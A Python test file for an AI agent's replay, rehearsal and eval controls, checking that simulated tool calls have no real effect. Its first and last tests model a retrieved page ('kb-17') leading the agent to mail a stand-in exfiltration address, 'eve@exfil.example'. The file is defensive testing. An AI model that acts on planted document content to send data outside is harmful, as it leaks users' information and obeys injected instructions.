"""Replay and evals: the agent's own code runs, and no tool has any effect."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

CASE = {"message": "Mail it", "documents": ["kb-17"], "customer": None}


async def test_a_replay_runs_the_agent_and_no_tool(agent: Any, http: httpx.AsyncClient) -> None:
    """Without the page the agent does no harm, with it it would; the mail never leaves, whatever the switches say."""

    @agent.control.replays
    def replay(case: dict[str, Any]) -> dict[str, Any]:
        pages = [page for page in case["documents"] if page not in case["without_documents"]]
        agent.control.retrieved([{"id": page, "source": "wiki"} for page in pages])
        said = agent.send_email("eve@exfil.example") if pages else agent.send_email("ann@ours.example")
        return {"reply": said}

    await http.put("/control/kill-switch", json={"on": True})
    body = {"case": CASE, "config": None, "without_documents": []}
    with_page = (await http.post("/control/replay", json=body)).json()
    without = (await http.post("/control/replay", json=body | {"without_documents": ["kb-17"]})).json()
    assert (with_page["reproduced"], without["reproduced"]) == (True, False)
    assert (with_page["retrieved"], without["retrieved"]) == (["kb-17"], [])
    assert with_page["actions"][0]["recipient_domain"] == "exfil.example"
    assert with_page["reply"] == "This is a rehearsal: send_email was not called."
    assert agent.sent == []
    assert (await http.get("/v1/actions")).json()["actions"] == []


async def test_async_hooks_and_stand_ins(agent: Any, http: httpx.AsyncClient) -> None:
    """A stand-in answers for a tool; a whole turn inside a rehearsal stays a rehearsal."""
    called: list[str] = []

    @agent.control.tool("search", writes=False, rehearsal=lambda word: f"found {word}")
    async def search(word: str) -> str:
        called.append(word)
        return "live"

    @agent.control.replays
    async def replay(case: dict[str, Any]) -> dict[str, Any]:
        with agent.control.turn(session="x", message=case["message"]) as turn:
            assert turn.fallback is None
            return {"reply": await search("refunds") + await agent.send_later("a@ours.example")}

    answer = (await http.post("/control/replay", json={"case": CASE})).json()
    assert answer["reply"].startswith("found refunds")
    assert [row["tool"] for row in answer["actions"]] == ["search", "send_later"]
    assert (called, agent.sent) == ([], [])


async def test_evals_are_counted_and_have_no_effect(agent: Any, http: httpx.AsyncClient) -> None:
    """Passed, failed, and each case with its reason."""

    @agent.control.evals
    def evals() -> list[dict[str, Any]]:
        agent.send_email("ann@ours.example")
        return [{"id": "a", "passed": True, "why": "fine"}, {"id": "b", "passed": False, "why": "it mailed"}]

    answer = (await http.post("/control/evals", json={})).json()
    assert (answer["passed"], answer["failed"], answer["cases"][1]["why"]) == (1, 1, "it mailed")
    assert agent.sent == []


@pytest.mark.parametrize("path", ["replay", "evals"])
async def test_what_is_not_registered_or_fails_says_so(agent: Any, http: httpx.AsyncClient, path: str) -> None:
    """No function: 501 with what to register. One that fails: 422 with its error."""
    body = {"case": CASE} if path == "replay" else {}
    missing = await http.post(f"/control/{path}", json=body)
    agent.control.replays(lambda case: case["nothing"])
    agent.control.evals(lambda: 1 / 0)
    failing = await http.post(f"/control/{path}", json=body)
    assert (missing.status_code, "register a function" in missing.json()["detail"]) == (501, True)
    assert failing.status_code == 422
    assert "Error" in failing.json()["detail"]


def test_rehearsing_by_hand(agent: Any) -> None:
    """In a test of your own: what the agent would have done, as the log shows it."""
    with agent.control.rehearsing() as turn:
        agent.send_email("eve@exfil.example")
    assert [(row["tool"], row["authorised"]) for row in turn.actions] == [("send_email", False)]
    assert agent.sent == []
